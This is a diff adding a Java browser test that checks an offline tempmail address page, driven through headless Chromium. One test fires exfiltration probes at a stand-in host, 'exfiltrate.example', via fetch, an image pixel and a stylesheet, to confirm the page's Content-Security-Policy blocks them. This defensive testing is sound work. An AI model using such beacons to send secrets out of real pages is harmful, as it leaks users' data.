@@ -1,0 +1,265 @@
+package org.tempmail.page;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.time.Instant;
+import java.time.ZoneId;
+import java.util.ArrayList;
+import java.util.Base64;
+import java.util.List;
+import java.util.Map;
+import java.util.Optional;
+import org.junit.jupiter.api.AfterAll;
+import org.junit.jupiter.api.BeforeAll;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+import org.tempmail.address.DatedAddressResolver;
+import org.tempmail.config.AddressSettings;
+import org.tempmail.config.SchemeName;
+import org.tempmail.config.Secret;
+import org.tempmail.testsupport.RequiredTool;
+
+/**
+ * The page tempmail page writes, in Debian's chromium, headless, driven over the DevTools protocol, with every
+ * request it might make sent to a recording proxy. The phone it pretends to be is in another time zone than
+ * the owner, as a traveller's is. Chromium's own calls to Google's hosts, should any remain despite the
+ * switches that turn them off, are not the page's and are left out of the account.
+ */
+class OfflinePageBrowserTest {
+    private static final String SECRET = "correct horse battery staple, grüße";
+    private static final String PHONE_ZONE = "Pacific/Kiritimati";
+    private static final AddressSettings HMAC = settings(SchemeName.HMAC_SHA256, 10, 3, "America/Los_Angeles");
+    private static final AddressSettings MD5 = settings(SchemeName.MD5, 32, 2, "Europe/Berlin");
+    /** Where the phone screenshot goes; docs/mint-page.png is a copy of it. */
+    private static final Path SCREENSHOT = Path.of("target", "mint-page.png");
+
+    @TempDir
+    static Path work;
+    private static RecordingProxy proxy;
+    private static HeadlessChromium chromium;
+    private static DevTools page;
+    private static Path hmacPage;
+    private static Path md5Page;
+
+    @BeforeAll
+    static void startChromium() throws Exception {
+        RequiredTool.requireExecutable(HeadlessChromium.BINARY.toString(), "chromium");
+        hmacPage = write("hmac.html", HMAC);
+        md5Page = write("md5.html", MD5);
+        proxy = new RecordingProxy();
+        chromium = new HeadlessChromium(work.resolve("profile"), proxy.port());
+        page = DevTools.connect(chromium.pageEndpoint());
+        page.send("Page.enable");
+        page.send("Network.enable");
+    }
+
+    @AfterAll
+    static void stopChromium() throws Exception {
+        if (page != null) {
+            page.close();
+        }
+        if (chromium != null) {
+            chromium.close();
+        }
+        if (proxy != null) {
+            proxy.close();
+        }
+    }
+
+    @BeforeEach
+    void asAPhoneAbroad() throws Exception {
+        page.send("Emulation.setDeviceMetricsOverride",
+                Map.of("width", 390, "height", 844, "deviceScaleFactor", 2, "mobile", true));
+        page.send("Emulation.setTimezoneOverride", Map.of("timezoneId", PHONE_ZONE));
+        open(hmacPage);
+        page.evaluate("localStorage.clear()");
+        open(hmacPage);
+    }
+
+    @Test
+    void showsTheAddressesTempmailAccepts() throws Exception {
+        assertShowsWhatJavaMakes(HMAC);
+        open(md5Page);
+        assertShowsWhatJavaMakes(MD5);
+    }
+
+    @Test
+    void fitsAPhoneScreen() throws Exception {
+        type(SECRET);
+        page.waitFor("document.querySelectorAll('#addresses li').length === 3");
+        assertEquals(Boolean.TRUE, page.evaluate("document.documentElement.scrollWidth <= innerWidth"),
+                "nothing wider than the phone's screen");
+        assertEquals(Boolean.TRUE, page.evaluate("[...document.querySelectorAll('.copy')].every(b => "
+                + "b.getBoundingClientRect().right <= innerWidth && b.getBoundingClientRect().height >= 36)"),
+                "every copy button on the screen and big enough for a thumb");
+        page.send("Input.dispatchMouseEvent", Map.of("type", "mouseMoved", "x", 1, "y", 1));
+        String png = (String) page.send("Page.captureScreenshot", Map.of("format", "png")).get("data");
+        Files.createDirectories(SCREENSHOT.getParent());
+        Files.write(SCREENSHOT, Base64.getDecoder().decode(png));
+    }
+
+    @Test
+    void keepsTheSecretOnlyWhenTickedAndForgetsItWithOneClick() throws Exception {
+        type(SECRET);
+        page.waitFor("document.querySelectorAll('#addresses li').length === 3");
+        assertEquals(0.0, page.evaluate("localStorage.length"), "not ticked: nothing stored");
+        open(hmacPage);
+        assertEquals("", page.evaluate("document.getElementById('secret').value"), "not ticked: gone on reload");
+
+        type(SECRET);
+        click("#remember");
+        assertEquals(SECRET, page.evaluate("localStorage.getItem('tempmail-secret@temp.example.org')"));
+        open(hmacPage);
+        assertEquals(SECRET, page.evaluate("document.getElementById('secret').value"), "ticked: kept");
+        assertEquals(Boolean.TRUE, page.evaluate("document.getElementById('remember').checked"));
+        page.waitFor("document.querySelectorAll('#addresses li').length === 3");
+
+        click("#forget");
+        assertEquals(0.0, page.evaluate("localStorage.length"), "forgotten: nothing stored");
+        assertEquals("", page.evaluate("document.getElementById('secret').value"));
+        assertEquals(0.0, page.evaluate("document.querySelectorAll('#addresses li').length"));
+        open(hmacPage);
+        assertEquals("", page.evaluate("document.getElementById('secret').value"), "forgotten: gone on reload");
+    }
+
+    @Test
+    void makesNoRequestAndMayMakeNone() throws Exception {
+        int seen = page.events.size();
+        int proxied = proxy.requests().size();
+        open(md5Page);
+        type(SECRET);
+        click("#remember");
+        click("#reveal");
+        page.waitFor("document.querySelectorAll('#addresses li').length === 2");
+        click(".copy");
+        click("#forget");
+        Thread.sleep(500);
+        assertEquals(List.of(), requestsSince(seen, md5Page), "requests the page made besides loading itself");
+
+        // What a script on the page would try, were it changed to send the secret away: the policy stops it.
+        int probesSeen = page.events.size();
+        assertEquals("refused", page.evaluate("fetch('http://exfiltrate.example/?s=1')"
+                + ".then(() => 'sent', () => 'refused')"));
+        page.evaluate("new Promise(done => { const image = new Image(); image.onerror = done; image.onload = done; "
+                + "image.src = 'http://exfiltrate.example/pixel.png'; setTimeout(done, 2000); })");
+        page.evaluate("new Promise(done => { const link = document.createElement('link'); link.rel = 'stylesheet'; "
+                + "link.href = 'https://exfiltrate.example/style.css'; link.onerror = done; link.onload = done; "
+                + "document.head.append(link); setTimeout(done, 2000); })");
+        Thread.sleep(500);
+        List<String> probes = requestsSince(probesSeen, md5Page);
+        assertEquals(2, probes.size(), "the image and the style sheet were asked for: " + probes);
+        assertEquals(probes, blockedByPolicySince(probesSeen), "asked for, and blocked by the page's policy");
+
+        List<String> reachedProxy = proxy.requests().subList(proxied, proxy.requests().size()).stream()
+                .filter(request -> !isChromiumsOwn(request)).toList();
+        assertEquals(List.of(), reachedProxy, "requests that reached the network");
+
+        // The proxy does see what Chromium does send: without this the two lists above could be empty for
+        // want of a working proxy.
+        open("http://proxy-check.example/");
+        long deadline = System.nanoTime() + 20_000_000_000L;
+        while (proxy.requests().stream().noneMatch(r -> r.contains("proxy-check.example"))) {
+            assertTrue(System.nanoTime() < deadline, "the proxy saw no request: " + proxy.requests());
+            Thread.sleep(50);
+        }
+    }
+
+    private static void assertShowsWhatJavaMakes(AddressSettings settings) throws Exception {
+        DatedAddressResolver resolver = DatedAddressResolver.from(settings);
+        List<String> before = resolver.validAddresses(Instant.now());
+        type(SECRET);
+        page.waitFor("document.querySelectorAll('#addresses li').length === " + settings.validDays());
+        @SuppressWarnings("unchecked")
+        List<String> shown = (List<String>) page.evaluate(
+                "[...document.querySelectorAll('#addresses .address')].map(e => e.textContent)");
+        List<String> after = resolver.validAddresses(Instant.now());
+        assertTrue(shown.equals(before) || shown.equals(after), "shown " + shown + ", Java makes " + after
+                + " (" + settings.scheme().configName() + ", days in " + settings.zone() + ")");
+        assertEquals("Today", Optional.ofNullable((String) page.evaluate(
+                "document.querySelector('#addresses .when').textContent")).orElse("").split(",")[0]);
+    }
+
+    /** The URLs the page asked for after {@code seen} events, except the page itself. */
+    private static List<String> requestsSince(int seen, Path self) {
+        List<String> urls = new ArrayList<>();
+        for (Map<?, ?> params : eventsSince(seen, "Network.requestWillBeSent")) {
+            String url = (String) ((Map<?, ?>) params.get("request")).get("url");
+            if (!url.equals(self.toUri().toString())) {
+                urls.add(url);
+            }
+        }
+        return urls;
+    }
+
+    /** The URLs of the requests after {@code seen} events that Chromium blocked for the Content-Security-Policy. */
+    private static List<String> blockedByPolicySince(int seen) {
+        List<Object> blocked = new ArrayList<>();
+        for (Map<?, ?> params : eventsSince(seen, "Network.loadingFailed")) {
+            if ("csp".equals(params.get("blockedReason"))) {
+                blocked.add(params.get("requestId"));
+            }
+        }
+        List<String> urls = new ArrayList<>();
+        for (Map<?, ?> params : eventsSince(seen, "Network.requestWillBeSent")) {
+            if (blocked.contains(params.get("requestId"))) {
+                urls.add((String) ((Map<?, ?>) params.get("request")).get("url"));
+            }
+        }
+        return urls;
+    }
+
+    private static List<Map<?, ?>> eventsSince(int seen, String method) {
+        return page.events.subList(seen, page.events.size()).stream()
+                .filter(event -> method.equals(event.get("method")))
+                .<Map<?, ?>>map(event -> (Map<?, ?>) event.get("params")).toList();
+    }
+
+    private static boolean isChromiumsOwn(String requestLine) {
+        String host = requestLine.split(" ")[1].replaceFirst("^https?://", "").replaceFirst("[:/].*$", "");
+        return host.endsWith(".google.com") || host.endsWith(".googleapis.com") || host.endsWith(".gstatic.com")
+                || host.endsWith(".gvt1.com") || host.endsWith(".googleusercontent.com");
+    }
+
+    private static void open(Path file) throws Exception {
+        open(file.toUri().toString());
+    }
+
+    /** Navigates and waits for the new document to have loaded (the old one is marked, for a reload). */
+    private static void open(String url) throws Exception {
+        page.evaluate("document.documentElement.dataset.stale = 'yes'");
+        page.send("Page.navigate", Map.of("url", url));
+        page.waitFor("document.readyState === 'complete' && document.documentElement.dataset.stale === undefined "
+                + "&& location.href === '" + url + "'");
+    }
+
+    private static void type(String text) throws Exception {
+        page.evaluate("document.getElementById('secret').focus()");
+        page.send("Input.insertText", Map.of("text", text));
+    }
+
+    /** A click with the mouse, in the middle of the element. */
+    private static void click(String selector) throws Exception {
+        List<?> middle = (List<?>) page.evaluate("(() => { const r = document.querySelector('" + selector
+                + "').getBoundingClientRect(); return [r.x + r.width / 2, r.y + r.height / 2]; })()");
+        for (String type : List.of("mousePressed", "mouseReleased")) {
+            page.send("Input.dispatchMouseEvent", Map.of("type", type, "x", middle.get(0), "y", middle.get(1),
+                    "button", "left", "clickCount", 1));
+        }
+    }
+
+    private static Path write(String name, AddressSettings settings) throws Exception {
+        Path file = work.resolve(name);
+        Files.writeString(file, OfflinePage.render(PageSettings.from(settings)), StandardCharsets.UTF_8);
+        return file;
+    }
+
+    private static AddressSettings settings(SchemeName scheme, int length, int validDays, String zone) {
+        return new AddressSettings(scheme, new Secret(SECRET), length, "temp.example.org", "owner@example.org",
+                validDays, ZoneId.of(zone), "+");
+    }
+}
